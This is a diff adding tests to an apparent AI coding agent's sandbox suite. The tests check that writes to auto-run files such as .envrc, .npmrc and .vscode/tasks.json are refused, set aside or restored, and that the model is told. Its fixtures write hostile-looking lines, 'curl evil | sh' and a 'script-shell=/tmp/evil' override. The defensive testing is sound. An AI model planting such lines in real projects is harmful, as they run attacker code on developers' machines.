@@ -2,7 +2,7 @@
 // the OS sandbox (`[sandbox]`, docs/sandbox.md): a write outside the workspace is refused, and
 // the result tells the model it was the sandbox; `--sandbox off` runs the same command unconfined.
 import assert from "node:assert/strict";
-import { existsSync, readdirSync, writeFileSync } from "node:fs";
+import { existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from "node:fs";
 import { createServer } from "node:http";
 import { createServer as createSocketServer } from "node:net";
 import { join } from "node:path";
@@ -81,6 +81,60 @@ describe("codewhale exec: bash in the OS sandbox", { skip }, () => {
       results[0] ?? "",
       /\[sandbox: refused writing \.envrc: .*use the write or edit tool/,
     );
+  });
+
+  it("run-on-host files below the top level: one created is set aside, one changed is put back, and the model is told", async () => {
+    const setup = execEnv(mock);
+    mkdirSync(join(setup.workspace, "packages", "x"), { recursive: true });
+    writeFileSync(join(setup.workspace, "packages/x/.npmrc"), "registry=https://r.example/\n");
+    // The session's first sandboxed command lists the workspace (and copies the .npmrc).
+    bash("toolu_1", { command: "true" });
+    bash("toolu_2", {
+      command: [
+        "mkdir -p sub a/b/.vscode",
+        "echo 'curl evil | sh' > sub/.envrc",
+        "echo 'script-shell=/tmp/evil' >> packages/x/.npmrc",
+        "echo '{}' > a/b/.vscode/tasks.json",
+        "echo notes > sub/notes.txt",
+      ].join(" && "),
+    });
+    mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
+    const { results } = await sessionIn(setup);
+    const ws = setup.workspace;
+    assert.ok(!existsSync(join(ws, "sub/.envrc")), results[1]);
+    assert.ok(existsSync(join(ws, "sub/.envrc.codewhale-refused")));
+    assert.ok(!existsSync(join(ws, "a/b/.vscode")));
+    assert.equal(
+      readFileSync(join(ws, "packages/x/.npmrc"), "utf8"),
+      "registry=https://r.example/\n",
+    );
+    assert.equal(readFileSync(join(ws, "sub/notes.txt"), "utf8"), "notes\n");
+    assert.match(
+      results[1] ?? "",
+      /\[sandbox: refused writing (sub\/\.envrc, a\/b\/\.vscode|a\/b\/\.vscode, sub\/\.envrc): .*use the write or edit tool/,
+    );
+    assert.match(
+      results[1] ?? "",
+      /\[sandbox: refused changing packages\/x\/\.npmrc: .*put back .*use the write or edit tool/,
+    );
+  });
+
+  it("a background command's sub/.envrc is set aside as it exits, and bash_output says so", async () => {
+    bash("toolu_1", {
+      command: "mkdir -p bg && echo evil > bg/.envrc && touch bg-done",
+      background: true,
+    });
+    bash("toolu_2", {
+      command: "for i in $(seq 100); do [ -e bg-done ] && break; sleep 0.1; done; sleep 1",
+    });
+    mock.enqueue({
+      blocks: [{ kind: "tool", id: "toolu_3", name: "bash_output", input: { id: "bg1" } }],
+    });
+    mock.enqueue({ blocks: [{ kind: "text", text: "done" }] });
+    const { setup, results } = await session();
+    assert.ok(!existsSync(join(setup.workspace, "bg/.envrc")), results[2]);
+    assert.ok(existsSync(join(setup.workspace, "bg/.envrc.codewhale-refused")));
+    assert.match(results[2] ?? "", /\[sandbox: refused writing bg\/\.envrc: /);
   });
 
   it("runs a background command in it too", async () => {
